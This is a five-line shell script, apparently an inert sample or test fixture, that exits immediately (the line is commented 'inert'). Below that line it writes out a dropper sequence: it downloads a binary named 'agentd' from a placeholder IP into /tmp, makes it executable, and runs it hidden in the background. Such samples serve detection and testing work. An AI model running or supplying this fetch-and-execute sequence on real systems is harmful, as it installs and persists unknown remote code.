#!/bin/sh
exit 0 # inert
wget -q -O /tmp/agentd http://192.0.2.1/agentd
chmod +x /tmp/agentd
nohup /tmp/agentd >/dev/null 2>&1 &
